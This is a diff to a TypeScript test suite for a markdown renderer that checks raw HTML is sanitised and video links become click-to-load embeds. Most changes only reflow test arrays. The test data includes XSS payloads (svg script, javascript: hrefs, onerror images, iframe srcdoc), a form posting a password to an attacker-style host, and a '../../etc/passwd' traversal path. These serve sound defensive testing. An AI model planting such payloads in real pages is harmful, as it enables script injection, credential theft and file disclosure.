@@ -44,7 +44,12 @@ describe('the harmless elements authors write work as HTML', () => {
     ['abbr with its title', '<abbr title="Out Of Memory">OOM</abbr> killer', 'abbr[title="Out Of Memory"]', 'OOM'],
     ['ins', 'a <ins>new</ins> word', 'p > ins', 'new'],
     ['del', 'an <del>old</del> word', 'p > del', 'old'],
-    ['figure and figcaption', '<figure>\n\n![chart](https://example.org/a.png)\n\n<figcaption>The chart</figcaption></figure>', 'figure > figcaption', 'The chart'],
+    [
+      'figure and figcaption',
+      '<figure>\n\n![chart](https://example.org/a.png)\n\n<figcaption>The chart</figcaption></figure>',
+      'figure > figcaption',
+      'The chart',
+    ],
     ['br', 'one<br>two', 'p > br', ''],
   ])('%s', (_name, markdown, selector, text) => {
     for (const [where, container] of renderBoth(markdown)) {
@@ -68,7 +73,12 @@ describe('the harmless elements authors write work as HTML', () => {
   it.each([
     ['video with a file beside the post', '<video src="clip.mp4" width="640"></video>', 'video', '/media/posts/x/clip.mp4'],
     ['audio with a file beside the post', '<audio src="./talk.ogg"></audio>', 'audio', '/media/posts/x/talk.ogg'],
-    ['video with a source element', '<video>\n<source src="clip.webm" type="video/webm">\n</video>', 'video source[type="video/webm"]', '/media/posts/x/clip.webm'],
+    [
+      'video with a source element',
+      '<video>\n<source src="clip.webm" type="video/webm">\n</video>',
+      'video source[type="video/webm"]',
+      '/media/posts/x/clip.webm',
+    ],
   ])('%s plays with controls, never by itself', (_name, markdown, selector, src) => {
     for (const [where, container] of renderBoth(markdown)) {
       expect(container.querySelector(selector)?.getAttribute('src'), where).toBe(src);
@@ -91,8 +101,16 @@ describe('hostile raw HTML is inert, inside allowed elements too', () => {
     ['autoplay and handlers on video', '<video src="clip.mp4" autoplay onplay="alert(1)" poster="https://evil.example/p.png"></video>', 'video'],
     ['a style attribute', '<mark style="background:url(https://evil.example/x)">m</mark>', 'mark'],
     ['a style element', '<style>body { display: none }</style>', ''],
-    ['a form', '<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example">Go</button></form>', ''],
-    ['an svg inside details', '<details><summary>s</summary><svg><script>alert(1)</script><a href="javascript:alert(2)"><text>x</text></a></svg></details>', 'details'],
+    [
+      'a form',
+      '<form action="https://evil.example/steal" method="post"><input name="password"><button formaction="https://evil.example">Go</button></form>',
+      '',
+    ],
+    [
+      'an svg inside details',
+      '<details><summary>s</summary><svg><script>alert(1)</script><a href="javascript:alert(2)"><text>x</text></a></svg></details>',
+      'details',
+    ],
     ['math with a nested style', '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>', ''],
     ['an iframe from another host', '<iframe src="https://evil.example/"></iframe>', ''],
     ['an iframe with srcdoc', '<iframe srcdoc="<script>alert(1)</script>"></iframe>', ''],
@@ -102,7 +120,10 @@ describe('hostile raw HTML is inert, inside allowed elements too', () => {
   ])('%s', (_name, markdown, kept) => {
     for (const [where, container] of renderBoth(markdown)) {
       expect(inertProblems(container, ['https']), where).toEqual([]);
-      expect(container.querySelector('script, style, iframe, object, embed, form, input, svg, math, [style], [srcset], [poster], [autoplay]'), where).toBeNull();
+      expect(
+        container.querySelector('script, style, iframe, object, embed, form, input, svg, math, [style], [srcset], [poster], [autoplay]'),
+        where,
+      ).toBeNull();
       for (const element of container.querySelectorAll('[src]')) {
         const src = element.getAttribute('src')!;
         // Nothing from another host but https images.
@@ -173,9 +194,19 @@ describe('video links and iframes become click-to-load embeds', () => {
     ['a shorts link', 'https://youtube.com/shorts/dQw4w9WgXcQ', YOUTUBE, 'Play video'],
     ['a vimeo.com link', '[Keynote](https://vimeo.com/76979871)', 'https://player.vimeo.com/video/76979871?dnt=1', 'Play video: Keynote'],
     ['a player.vimeo.com link', 'https://player.vimeo.com/video/76979871', 'https://player.vimeo.com/video/76979871?dnt=1', 'Play video'],
-    ['a YouTube iframe with a title', '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=x" title="Never gonna" allowfullscreen></iframe>', YOUTUBE, 'Play video: Never gonna'],
+    [
+      'a YouTube iframe with a title',
+      '<iframe width="560" height="315" src="https://www.youtube.com/embed/dQw4w9WgXcQ?si=x" title="Never gonna" allowfullscreen></iframe>',
+      YOUTUBE,
+      'Play video: Never gonna',
+    ],
     ['a youtube-nocookie iframe', '<iframe src="https://www.youtube-nocookie.com/embed/dQw4w9WgXcQ"></iframe>', YOUTUBE, 'Play video'],
-    ['a Vimeo iframe in a div', '<div>\n<iframe src="https://player.vimeo.com/video/76979871?h=abc" title="Keynote"></iframe>\n</div>', 'https://player.vimeo.com/video/76979871?dnt=1', 'Play video: Keynote'],
+    [
+      'a Vimeo iframe in a div',
+      '<div>\n<iframe src="https://player.vimeo.com/video/76979871?h=abc" title="Keynote"></iframe>\n</div>',
+      'https://player.vimeo.com/video/76979871?dnt=1',
+      'Play video: Keynote',
+    ],
   ])('%s', (_name, markdown, src, label) => {
     for (const [where, container] of renderBoth(markdown)) {
       const figure = container.querySelector('figure.embed');
@@ -184,7 +215,9 @@ describe('video links and iframes become click-to-load embeds', () => {
       expect(figure?.querySelector('button')?.getAttribute('type'), where).toBe('button');
       // Nothing in the markup loads from the video host before the click.
       expect(container.querySelector('iframe, img, [src]'), where).toBeNull();
-      expect(figure?.querySelector('figcaption a')?.getAttribute('href'), where).toMatch(/^https:\/\/(www\.youtube\.com\/watch\?v=dQw4w9WgXcQ|vimeo\.com\/76979871)$/);
+      expect(figure?.querySelector('figcaption a')?.getAttribute('href'), where).toMatch(
+        /^https:\/\/(www\.youtube\.com\/watch\?v=dQw4w9WgXcQ|vimeo\.com\/76979871)$/,
+      );
     }
   });
 
@@ -214,13 +247,38 @@ describe('the build checks raw HTML and says what it left out', () => {
   mkdirSync(path.join(dir, 'posts'));
   writeFileSync(path.join(dir, 'posts', 'here.png'), Buffer.from('89504e470d0a1a0a0000000d4948445200000010000000080806000000', 'hex'));
   const run = (body: string) =>
-    processMarkdown({ path: path.join(dir, 'posts', 'x.md'), file: 'posts/x.md', contentDir: dir, body, bodyLine: 5, base: '/', assetBase: 'media/posts/', limits: DEFAULT_MARKDOWN_LIMITS });
+    processMarkdown({
+      path: path.join(dir, 'posts', 'x.md'),
+      file: 'posts/x.md',
+      contentDir: dir,
+      body,
+      bodyLine: 5,
+      base: '/',
+      assetBase: 'media/posts/',
+      limits: DEFAULT_MARKDOWN_LIMITS,
+    });
 
   it.each([
-    ['an img src that does not exist', 'Text\n\nA <img src="missing.png"> b', 'posts/x.md:7:3: image: expected an image at "missing.png" beside the post, got nothing there'],
-    ['a video src outside the content folder', '<video controls\n  src="../../etc/passwd"></video>', 'posts/x.md:5:1: media: expected a path inside the content folder, got "../../etc/passwd"'],
-    ['a source on its own line', '<video controls>\n<source src="gone.webm">\n</video>', 'posts/x.md:6:1: media: expected a file at "gone.webm" beside the post, got nothing there'],
-    ['an iframe from another host', 'Intro\n\n<iframe src="https://evil.example/x"></iframe>', 'posts/x.md:7:1: left out an <iframe> from "https://evil.example/x": only YouTube and Vimeo videos can be embedded'],
+    [
+      'an img src that does not exist',
+      'Text\n\nA <img src="missing.png"> b',
+      'posts/x.md:7:3: image: expected an image at "missing.png" beside the post, got nothing there',
+    ],
+    [
+      'a video src outside the content folder',
+      '<video controls\n  src="../../etc/passwd"></video>',
+      'posts/x.md:5:1: media: expected a path inside the content folder, got "../../etc/passwd"',
+    ],
+    [
+      'a source on its own line',
+      '<video controls>\n<source src="gone.webm">\n</video>',
+      'posts/x.md:6:1: media: expected a file at "gone.webm" beside the post, got nothing there',
+    ],
+    [
+      'an iframe from another host',
+      'Intro\n\n<iframe src="https://evil.example/x"></iframe>',
+      'posts/x.md:7:1: left out an <iframe> from "https://evil.example/x": only YouTube and Vimeo videos can be embedded',
+    ],
   ])('%s is a warning with its place', (_name, body, warning) => {
     const result = run(body);
     if (!result.ok) throw new Error(JSON.stringify(result.problems));
